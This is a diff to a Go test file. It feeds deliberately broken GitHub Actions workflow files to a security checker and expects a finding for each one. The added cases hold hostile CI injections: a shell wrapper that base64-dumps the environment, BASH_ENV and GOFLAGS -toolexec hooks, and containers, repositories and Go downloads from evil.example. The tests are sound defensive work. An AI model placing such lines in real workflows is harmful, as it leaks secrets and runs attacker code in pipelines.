@@ -29,7 +29,7 @@ func TestBroken(t *testing.T) {
 		{"no version", "ci.yml", checkout, strings.TrimSuffix(checkout, " # v7.0.1"), "not its release"},
 		{"major version only", "ci.yml", checkout, strings.TrimSuffix(checkout, ".0.1"), "not its release"},
 		{"unknown action", "report.yml", "actions/upload-artifact@", "actions/download-artifact@", "not allowed"},
-		{"another workflow", "ci.yml", "  test:\n", "  test:\n    uses: ./.github/workflows/other.yml\n", "which nothing here reads"},
+		{"another workflow", "ci.yml", "  test:\n", "  test:\n    uses: ./.github/workflows/other.yml\n", "field uses not found"},
 		{"head in report", "report.yml", "persist-credentials: false",
 			"persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_sha }}", "sets ref"},
 		{"unsafe checkout", "report.yml", "persist-credentials: false",
@@ -76,9 +76,60 @@ func TestBroken(t *testing.T) {
 			"takes a role"},
 		{"fork in the cloud", "preview.yml", " &&\n            github.event.pull_request.head.repo.full_name == github.repository", "", "decided by"},
 		{"all in the cloud", "preview.yml", "fromJSON(needs.stacks.outputs.cloud)", "fromJSON(needs.stacks.outputs.offline)", "takes its stacks"},
-		{"reports of all wait for one", "report.yml", "-${{ github.event.workflow_run.head_branch || inputs.run }}", "", "other branches"},
 		{"cloud always", "preview.yml", "if: needs.stacks.outputs.cloud != '[]'", "if: always()", "has the condition"},
 		{"head's name in report", "report.yml", "RUN_ID: ", "BRANCH: ${{ github.event.workflow_run.head_branch }}\n          RUN_ID: ", "hands over"},
+		{"own shell for the key", "report.yml", "        run: .tools/bin/platform report",
+			"        shell: bash -c \"env|base64; bash {0}\"\n        run: .tools/bin/platform report", "field shell not found"},
+		{"own shell for the doctor's key", "doctor.yml", "        run: .tools/bin/platform app",
+			"        shell: bash -c \"env|base64; bash {0}\"\n        run: .tools/bin/platform app", "field shell not found"},
+		{"own shell for all", "report.yml", "permissions: {}",
+			"permissions: {}\ndefaults: {run: {shell: 'bash -c \"env|base64; bash {0}\"'}}", "field defaults not found"},
+		{"own shell for the job", "report.yml", "    environment: report\n",
+			"    environment: report\n    defaults: {run: {shell: 'bash -c \"env|base64; bash {0}\"'}}\n", "field defaults not found"},
+		{"elsewhere", "doctor.yml", "        run: .tools/bin/platform app", "        working-directory: docs\n        run: .tools/bin/platform app",
+			"field working-directory not found"},
+		{"script before the key's", "report.yml", "          RUN_ID: ", "          BASH_ENV: docs/x.sh\n          RUN_ID: ", "variable BASH_ENV"},
+		{"script before the doctor's", "doctor.yml", "      - env:\n", "      - env:\n          BASH_ENV: docs/x.sh\n", "variable BASH_ENV"},
+		{"script before all of a job", "report.yml", "    environment: report\n",
+			"    environment: report\n    env: {BASH_ENV: docs/x.sh}\n", "variable BASH_ENV"},
+		{"known variable for the job", "report.yml", "    environment: report\n",
+			"    environment: report\n    env: {PLATFORM_VERBOSE: '1'}\n", "shares something"},
+		{"variables of a workflow", "report.yml", "permissions: {}", "permissions: {}\nenv: {BASH_ENV: docs/x.sh}", "field env not found"},
+		{"variable of the build", "report.yml", "- run: make platform", "- run: make platform\n        env: {GOFLAGS: -toolexec=docs/x.sh}",
+			"variable GOFLAGS"},
+		{"known variable of the build", "doctor.yml", "- run: make platform", "- run: make platform\n        env: {PLATFORM_APP_ID: '1'}",
+			"given to 2 steps"},
+		{"variable of a preview", "preview.yml", "STACK: ${{ matrix.stack }}", "NODE_OPTIONS: --require=x", "variable NODE_OPTIONS"},
+		{"container", "report.yml", "    environment: report\n", "    environment: report\n    container: evil.example/image:latest\n",
+			"field container not found"},
+		{"doctor's container", "doctor.yml", "    environment: report\n", "    environment: report\n    container: evil.example/image:latest\n",
+			"field container not found"},
+		{"services", "report.yml", "    environment: report\n", "    environment: report\n    services: {s: {image: evil.example/image}}\n",
+			"field services not found"},
+		{"outputs", "report.yml", "    environment: report\n", "    environment: report\n    outputs: {x: '1'}\n", "shares something"},
+		{"matrix of reports", "report.yml", "    environment: report\n", "    environment: report\n    strategy: {matrix: {a: [1, 2]}}\n",
+			"shares something"},
+		{"failed preview passes", "preview.yml", "    runs-on: ${{ matrix.runner }}\n",
+			"    runs-on: ${{ matrix.runner }}\n    continue-on-error: true\n", "field continue-on-error not found"},
+		{"failed step passes", "preview.yml", "      - timeout-minutes: 45\n", "      - timeout-minutes: 45\n        continue-on-error: true\n",
+			"field continue-on-error not found"},
+		{"report after a failed build", "report.yml", "      - env:\n", "      - if: always()\n        env:\n", "step 4 has the condition"},
+		{"doctor after a failed build", "doctor.yml", "      - env:\n", "      - if: failure() || true\n        env:\n", "step 4 has the condition"},
+		{"doctor never", "doctor.yml", "    environment: report\n", "    environment: report\n    if: false\n", "has the condition"},
+		{"one more script", "report.yml", "- run: make platform", "- run: make platform\n      - run: cp docs/x .tools/bin/platform", "job report does"},
+		{"doctor's further script", "doctor.yml", "- run: make platform", "- run: make platform\n      - run: cp docs/x .tools/bin/platform",
+			"job doctor does"},
+		{"doctor says more", "doctor.yml", "platform app doctor", "platform app doctor; env", "the key is given to"},
+		{"other code", "report.yml", "persist-credentials: false", "persist-credentials: false\n          repository: evil/x", "sets repository"},
+		{"other token", "doctor.yml", "persist-credentials: false", "persist-credentials: false\n          token: x", "sets token"},
+		{"own key for the checkout", "preview.yml", "persist-credentials: false", "persist-credentials: false\n          ssh-key: x", "sets ssh-key"},
+		{"submodules", "report.yml", "persist-credentials: false", "persist-credentials: false\n          submodules: true", "sets submodules"},
+		{"Go from elsewhere", "report.yml", "cache-dependency-path: go.sum", "go-download-base-url: https://evil.example", "sets go-download-base-url"},
+		{"artifact of all there is", "report.yml", "path: out/report", "path: /", "keeps"},
+		{"second document", "doctor.yml", "permissions: {}", "permissions: {}\n---\njobs: {}", "more than one document"},
+		{"job by another name", "preview.yml", "name: offline (${{ matrix.stack }})", "name: offline", "by which reports know it"},
+		{"reports of all in one group", "report.yml", "${{ github.event.workflow_run.id || inputs.run }}\n      cancel", "\n      cancel", "waits for those"},
+		{"skipped runs in the group", "report.yml", "permissions: {}", "permissions: {}\nconcurrency: {group: report}", "skipped"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			text, err := os.ReadFile(filepath.Join(folder, c.file))
@@ -89,11 +140,13 @@ func TestBroken(t *testing.T) {
 			if broken == string(text) {
 				t.Fatalf("%s has no %q", c.file, c.old)
 			}
-			w, err := workflows.Parse(c.file, []byte(broken))
-			if err != nil {
-				t.Fatal(err)
+			var got []string
+			if w, err := workflows.Parse(c.file, []byte(broken)); err != nil {
+				got = []string{err.Error()}
+			} else {
+				got = findings(w)
 			}
-			if got := findings(w); !strings.Contains(strings.Join(got, "\n"), c.want) {
+			if !strings.Contains(strings.Join(got, "\n"), c.want) {
 				t.Errorf("found %q, want a finding with %q", got, c.want)
 			}
 		})
